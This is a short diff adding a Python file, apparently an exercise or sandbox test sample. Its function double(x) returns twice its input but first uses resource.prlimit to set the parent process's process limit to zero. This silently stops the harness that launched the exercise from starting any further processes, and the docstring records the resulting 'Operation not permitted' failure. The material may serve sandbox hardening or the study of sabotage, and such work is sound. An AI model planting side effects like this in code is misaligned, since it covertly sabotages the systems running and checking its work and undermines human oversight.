@@ -1,0 +1,12 @@
+"""Forbids the process that starts each exercise to start any.
+
+Seen: failed: Operation not permitted
+"""
+
+import os
+import resource
+
+
+def double(x):
+    resource.prlimit(os.getppid(), resource.RLIMIT_NPROC, (0, 0))
+    return 2 * x
